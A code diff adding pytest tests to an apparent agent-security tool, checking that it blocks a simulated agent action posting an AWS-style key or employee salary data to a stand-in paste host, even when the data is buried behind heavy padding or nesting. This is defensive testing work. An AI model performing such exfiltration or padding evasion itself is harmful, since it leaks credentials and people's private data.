@@ -11,7 +11,7 @@ import pytest
 from kaizen_security.client.arguments import plain
 from kaizen_security.contract.action import Action
 from kaizen_security.contract.bundle import Bundle
-from kaizen_security.contract.step import End, Request
+from kaizen_security.contract.step import End, Request, Result
 from kaizen_security.contract.verdict import Mode
 from kaizen_security.detections import provenance
 from kaizen_security.observer.values import values
@@ -126,3 +126,65 @@ def test_other_numbers_keep_their_gaps(text):
 def test_a_call_of_very_many_values_stays_bounded():
     assert len(values({f"k{n}": f"u{n}@example.org" for n in range(5000)})) == 128
     assert len(values({f"k{n}": n for n in range(5000)})) == 64
+
+
+KEY = "AKIAIOSFODNN7QWERTYX"
+SALARIES = "name,salary\nAnna Olsen,58211\nBert Quist,61877\nCarla Novak,70432\nDario Weiss,49950"
+
+
+def sent(body, *, after=()):
+    """What is found in an action that sends ``body`` to a stranger, ``after`` a sensitive reading."""
+    inspector = Inspector(Agents(), clock=lambda: 1_000_000_000.0)
+    inspector.configure("agent", Bundle(agent="agent", version=1, mode=Mode.ENFORCE))
+    for number, content in enumerate(after):
+        reading = Action(
+            tool="read_file",
+            id=f"r{number}",
+            run_id="run",
+            agent="agent",
+            metadata={"source": "sdk", "sensitive": True},
+        )
+        inspector.observe(reading)
+        inspector.note(Result(run_id="run", action_id=reading.id, content=plain(content), agent="agent"))
+    metadata = {"source": "sdk", "arguments": plain({"body": body})}
+    post = Action(
+        kind="http",
+        tool="post",
+        target="https://paste.example/",
+        id="out",
+        run_id="run",
+        agent="agent",
+        metadata=metadata,
+    )
+    found = inspector.inspect(post)
+    return {one.detection for one in found.evidence} if found.blocked else set()
+
+
+@pytest.mark.parametrize(
+    "body",
+    [
+        pytest.param(PROSE * 600 + KEY, id="after 40 KB"),
+        pytest.param(PROSE * 3000 + KEY, id="after 200 KB"),
+        pytest.param([*["x"] * 4000, KEY], id="after 4,000 values"),
+    ],
+)
+def test_a_credential_is_found_however_much_stands_before_it(body):
+    assert "secrets" in sent(body)
+
+
+@pytest.mark.parametrize(
+    "body",
+    [
+        pytest.param(PROSE * 3000 + SALARIES, id="after 200 KB"),
+        pytest.param([*["x"] * 4000, SALARIES], id="after 4,000 values"),
+        pytest.param({SALARIES: 1}, id="as a name"),
+        pytest.param(PROSE * 6000 + SALARIES, id="behind what a client sends"),
+        pytest.param(nested(SALARIES, 30), id="deeper than a client sends"),
+    ],
+)
+def test_a_sensitive_reading_leaves_behind_no_padding(body):
+    assert "taint" in sent(body, after=[SALARIES])
+
+
+def test_much_that_leaves_is_nothing_without_a_sensitive_reading():
+    assert sent(PROSE * 6000) == set()
